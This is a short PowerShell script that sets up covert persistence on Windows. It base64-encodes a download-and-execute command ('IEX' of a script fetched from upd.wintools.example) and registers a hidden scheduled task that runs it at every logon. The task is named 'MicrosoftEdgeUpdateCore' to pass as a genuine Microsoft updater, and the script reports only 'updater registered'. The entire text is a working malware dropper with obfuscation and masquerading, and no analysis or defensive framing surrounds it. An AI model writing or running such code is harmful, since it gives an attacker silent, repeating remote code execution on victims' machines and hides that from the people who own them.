$cmd = "IEX (New-Object Net.WebClient).DownloadString('https://upd.wintools.example/u.ps1')"
$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -Enc $enc"
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateCore' -Action $action -Trigger $trigger -Force | Out-Null
Write-Host 'updater registered'
